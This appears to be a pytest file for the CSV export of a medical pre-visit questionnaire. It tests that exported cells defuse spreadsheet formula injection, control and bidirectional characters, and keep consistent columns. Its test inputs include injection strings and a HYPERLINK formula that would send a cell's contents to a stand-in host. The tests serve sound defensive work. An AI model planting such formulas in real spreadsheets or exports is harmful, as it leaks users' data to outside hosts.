@@ -1,0 +1,179 @@
+"""A file for spreadsheets: opened anywhere it shows what was said, and carries nothing out."""
+
+import csv
+import io
+from collections import Counter
+
+import pytest
+
+from pre_visit.snapshot import document_of
+from questionnaire.distance import Distance
+from staff.export.cells import number_cell, text_cell
+from staff.export.spreadsheet import csv_of
+from tests.factories import Chance, as_given, healthy_runner, random_person
+from tests.staff.export.rounds import a_record, a_round, a_round_with
+
+
+@pytest.fixture(scope="module")
+def documents(questionnaire):
+    return {questionnaire.version: document_of(questionnaire)}
+
+
+def text_of(rounds, documents):
+    return "".join(csv_of(rounds, documents)).encode().decode("utf-8-sig")
+
+
+def rows_of(rounds, documents):
+    return list(csv.DictReader(io.StringIO(text_of(rounds, documents), newline="")))
+
+
+def row_of(one, documents):
+    (row,) = rows_of([one], documents)
+    return row
+
+
+@pytest.mark.parametrize(
+    ("typed", "cell"),
+    [
+        ("", ""),
+        ("Run again", "Run again"),
+        ("=1+1", "'=1+1"),
+        ("+1 555 0100", "'+1 555 0100"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("  =1+1", "'=1+1"),
+        ("\t=1+1", "'=1+1"),
+        ("\r=1+1", "'=1+1"),
+        ("\n=1+1", "'=1+1"),
+        ("\u00a0=1+1", "'=1+1"),
+        ("\x00=1+1", "'=1+1"),
+        ("\u202e=1+1", "'=1+1"),
+        ("＝1+1", "'＝1+1"),
+        ("a = b", "a = b"),
+        ("a\r\nb\rc\nd", "a\nb\nc\nd"),
+        ("a\x1b[31mb\x7f\x85", "a[31mb"),
+        ("a\u202eb\u2066c\u200fd", "abcd"),
+        ("half \ud83d a sign", "half \ufffd a sign"),
+        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
+        ('a "b", c; d', 'a "b", c; d'),
+        ("é 漢 👟", "é 漢 👟"),
+    ],
+)
+def test_a_text_stays_a_text(typed, cell):
+    assert cell == text_cell(typed)
+
+
+@pytest.mark.parametrize(
+    ("number", "cell"),
+    [(None, ""), (0, "0"), (7, "7"), (7.0, "7"), (-1, "-1"), (0.5, "0.5"), (11.7482112,) * 2],
+)
+def test_a_number_stays_a_number(number, cell):
+    assert str(cell) == number_cell(number)
+
+
+def test_it_begins_with_a_mark_that_says_utf_8(documents):
+    assert "".join(csv_of([], documents)).encode().startswith(b"\xef\xbb\xbfvisit,reference,")
+
+
+def test_a_row_says_what_was_answered_and_told(questionnaire, rulebook, documents):
+    answers = healthy_runner(rf_other=["long_cough"], km_last_7d=None)
+    one = a_round(questionnaire, rulebook, answers)
+    row = row_of(one, documents)
+
+    assert row["reference"] == "KL-204"
+    assert row["visit_at"] == "2026-11-24T09:30"
+    assert (row["received_utc"], row["sent_utc"]) == ("2026-11-23 12:00", "2026-11-23 12:00")
+    assert row["is_complete"] == "yes"
+    assert row["version_questions"] == questionnaire.version
+    assert row["version_rules"] == rulebook.version
+    assert row["next_step"] == "see_doctor"
+    assert row["next_step_words"] == rulebook.advice.next_steps["see_doctor"].title
+    assert row["signs"] == one.record["signs"][0]["id"]
+    assert row["signs_words"] == one.record["signs"][0]["because"]
+    assert (row["rf_other"], row["rf_other_words"]) == (
+        "long_cough",
+        "A cough that has lasted more than 3 weeks",
+    )
+    assert (row["age_years"], row["age_years_words"]) == ("35", "35 years")
+    assert (row["km_last_7d"], row["km_last_7d_words"]) == ("", "not answered")
+    assert (row["preg_warning"], row["preg_warning_words"]) == ("", "")
+    assert row["own_ask"] == "Can I run my race in May?"
+    assert row["own_stops_rating"] == "6"
+
+
+def test_causes_are_told_with_their_strength(questionnaire, rulebook, documents):
+    one = a_round(questionnaire, rulebook, healthy_runner(longest_recent_km=40))
+    row, shown = row_of(one, documents), [c for c in one.record["causes"] if c["strength"]]
+
+    assert shown
+    assert [cause["id"] for cause in shown] == row["causes"].split("; ")
+    assert f"{shown[0]['title']} ({shown[0]['strength']})" in row["causes_words"]
+
+
+def test_several_ticks_stand_in_one_cell(questionnaire, rulebook, documents):
+    answers = healthy_runner(pain_location=["between_blades", "low_back"])
+    row = row_of(a_round(questionnaire, rulebook, answers), documents)
+
+    assert row["pain_location"] == "between_blades; low_back"
+    assert row["pain_location_words"] == "Between my shoulder blades; Low back"
+
+
+def test_a_distance_is_in_km_beside_what_was_typed(questionnaire, rulebook, documents):
+    given = as_given(questionnaire, healthy_runner()) | {"km_last_7d": Distance(7.3, "mi")}
+    row = row_of(a_round_with(a_record(questionnaire, rulebook, given)), documents)
+
+    assert (row["km_last_7d"], row["km_last_7d_words"]) == ("11.7482112", "7.3 miles")
+
+
+def test_a_stop_before_anything_was_sent_is_told_as_such(questionnaire, rulebook, documents):
+    one = a_round(questionnaire, rulebook, {"rf_now": ["fainted"]}, submitted=None, words={})
+    row = row_of(one, documents)
+
+    assert (row["is_complete"], row["sent_utc"], row["causes"]) == ("no", "", "")
+    assert row["next_step"] == "emergency"
+    assert row["own_ask"] == ""
+
+
+def test_what_cannot_be_read_has_a_row_of_its_own(documents):
+    row = row_of(a_round_with(None, reference=None, words={}), documents)
+
+    assert {value for name, value in row.items() if value} == {
+        *("k4m7x2p9qt", "2026-11-24T09:30", "Robin Hale", "1", "2026-11-23 12:00", "new")
+    }
+
+
+def test_every_version_has_the_same_columns_and_old_questions_come_last(questionnaire, documents):
+    old = {"sections": [{"questions": [{"id": "age_years"}, {"id": "asked_long_ago"}]}]}
+    header = next(csv_of([], documents | {"0.0": old})).strip().split(",")
+
+    assert header[-2:] == ["asked_long_ago", "asked_long_ago_words"]
+    assert set(Counter(header).values()) == {1}
+    assert header[:-2] == next(csv_of([], documents)).strip().split(",")
+
+
+def test_every_row_of_many_people_has_every_column(questionnaire, rulebook, documents):
+    people = (random_person(questionnaire, Chance(number), 0.9) for number in range(40))
+    rounds = [a_round(questionnaire, rulebook, person) for person in people]
+    sheet = io.StringIO(text_of(rounds, documents), newline="")
+    lengths = {len(row) for row in csv.reader(sheet)}
+
+    assert len(lengths) == 1
+    assert csv.Sniffer().sniff(text_of(rounds, documents)).delimiter == ","
+
+
+NASTY = '=HYPERLINK("http://a.example?"&A1)\r\n<script>\u202e\x00", "; -1'
+
+
+def test_nasty_words_reach_no_other_cell(questionnaire, rulebook, documents):
+    words = {"ask": NASTY, "stops": NASTY, "stops_rating": 0}
+    tame = a_round(questionnaire, rulebook, healthy_runner())
+    nasty = a_round(questionnaire, rulebook, healthy_runner(), words=words, reference=NASTY)
+    expected = '\'=HYPERLINK("http://a.example?"&A1)\n<script>", "; -1'
+    differs = dict(row_of(nasty, documents).items() - row_of(tame, documents).items())
+
+    assert differs == {
+        "reference": expected,
+        "own_ask": expected,
+        "own_stops": expected,
+        "own_stops_rating": "0",
+    }
